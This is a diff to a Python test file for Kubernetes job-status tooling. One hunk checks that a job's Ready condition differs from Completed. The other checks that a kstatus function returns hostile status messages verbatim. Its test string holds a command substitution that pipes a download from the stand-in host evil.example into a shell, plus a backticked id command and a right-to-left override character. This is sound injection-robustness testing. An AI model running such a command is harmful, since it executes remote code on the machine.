@@ -162,6 +162,13 @@ def test_kubectl_wait_and_t9k_sdk_wait_for_the_ready_condition(
     assert code == 0, err
     assert out.startswith("genericjob/kw condition=Ready reached after ")
 
+    # Ready is not "finished" (a newcomer's misreading): the job runs on, Completed is not set
+    early = _kubectl(
+        kubeconfig, "wait", "-n", ns, "--for=condition=Completed", "genericjob/kw", "--timeout=2s"
+    )
+    assert early.returncode != 0
+    assert "timed out" in early.stderr, early.stderr
+
     wide = _kubectl(kubeconfig, "get", "-n", ns, "gj", "kw", "-o", "wide")
     assert wide.returncode == 0, wide.stderr
     header, row = wide.stdout.splitlines()
@@ -324,3 +331,17 @@ def test_kstatus_reads_the_pure_cores_statuses_as_the_contract_says() -> None:
         conditions = EXPECTED[state][1]
         if conditions is not None:
             assert health(states[state]) == conditions, state
+
+
+def test_kstatus_passes_hostile_messages_through_verbatim() -> None:
+    """Messages come from pods and tenants: quotes, command substitutions, newlines, YAML and
+    Lua syntax reach kstatus as data and come back unchanged."""
+    message = 'it said "$(curl evil.example | sh)"; `id`\n--- {a: [1]} ]]--\u202e end'
+    job = generic_job("h", replica("worker", 1))
+    job["metadata"].update(generation=9223372036854775807)
+    job["status"] = {
+        "observedGeneration": 9223372036854775807,
+        "conditions": [{"type": "Stalled", "status": "True", "reason": "X", "message": message}],
+    }
+    (result,) = kstatus(job)
+    assert (result["status"], result["message"]) == ("Failed", message)
